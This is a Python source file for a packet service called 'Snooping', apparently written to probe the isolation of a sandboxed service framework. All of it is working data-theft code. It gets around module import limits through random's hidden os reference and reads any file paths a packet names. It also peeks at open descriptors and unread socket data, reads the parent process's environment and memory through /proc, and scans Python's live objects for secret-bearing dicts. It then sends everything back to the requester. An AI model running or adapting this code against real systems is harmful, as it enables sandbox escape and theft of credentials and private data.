"""Snooping: looks for what is not its own wherever it gets to, and sends all that it finds.

The payload says where: paths of files, one a line. Python lets who knows it well get at what no
module may import; what is then in its way is the kernel's.
"""

import random
from collections.abc import Callable, Iterable, Iterator
from functools import partial
from typing import Any

from msgspec.structs import replace

from ei.sdk import Context, DropPacket, Effect, PacketArrived, SendPacket, Service

SNOOP = b"snoop"
READ_BYTES = 16_384
MOST_BYTES = 1_000
"""Of one packet."""
PIECES = 500
OPEN_FILES = 64
PEEK_AT_ONCE = 0x42
"""From sys/socket.h: MSG_PEEK and MSG_DONTWAIT."""

os: Any = vars(random)["_os"]
modules: Any = os.sys.modules


def files(paths: Iterable[str]) -> Iterator[bytes]:
    """Read the files of others."""
    for path in paths:
        yield attempt(partial(read, path))


def read(path: str) -> object:
    """Return the beginning of a file."""
    return os.pread(os.open(path, os.O_RDONLY), READ_BYTES, 0)


def descriptors(_paths: Iterable[str]) -> Iterator[bytes]:
    """Read what is open, also what has come and nobody has taken yet."""
    for number in range(OPEN_FILES):
        yield attempt(partial(os.pread, number, READ_BYTES, 0))
        yield attempt(partial(peek, number))


def peek(number: int) -> bytes:
    """Return what is to be received next."""
    ctypes = modules["ctypes"]
    room = ctypes.create_string_buffer(READ_BYTES)
    size: int = ctypes.CDLL(None).recv(number, room, READ_BYTES, PEEK_AT_ONCE)
    received: bytes = room.raw[: max(size, 0)]
    return received


def others(_paths: Iterable[str]) -> Iterator[bytes]:
    """Read the memory of the process that forked this one, and connect to what listens."""
    for name in ("environ", "maps", "mem", "cmdline"):
        yield attempt(partial(read, f"/proc/{os.getppid()}/{name}"))
    yield attempt(lambda: modules["_socket"].socket(1, 1, 0))


def objects(_paths: Iterable[str]) -> Iterator[bytes]:
    """Show what this process was told or has inherited, of all that Python keeps track of."""
    kept: list[object] = modules["gc"].get_objects()
    for each in kept:
        if isinstance(each, dict) and "word" in each:
            yield attempt(partial(repr, each))


def attempt(act: Callable[[], object]) -> bytes:
    """Return what came of it, or why nothing did."""
    try:
        return repr(act()).encode()
    except BaseException as error:
        return repr(error).encode()


def snoop(paths: Iterable[str]) -> bytes:
    """Look everywhere."""
    looks = (files, descriptors, others, objects)
    return b"\n".join(found for look in looks for found in look(paths))


class Snooping(Service[None]):
    """Looks."""

    __slots__ = ()

    def on_packet(self, event: PacketArrived, ctx: Context[None]) -> Iterable[Effect]:
        """Look, and send what was found to who asked, in pieces."""
        packet = event.packet
        if packet.metadata != SNOOP:
            return (DropPacket("calm"),)
        found = snoop(packet.payload.decode().split("\n"))
        pieces = [found[at : at + MOST_BYTES] for at in range(0, len(found), MOST_BYTES)]
        return tuple(
            SendPacket(replace(packet, payload=piece), packet.ingress) for piece in pieces[:PIECES]
        )


SERVICE = Snooping
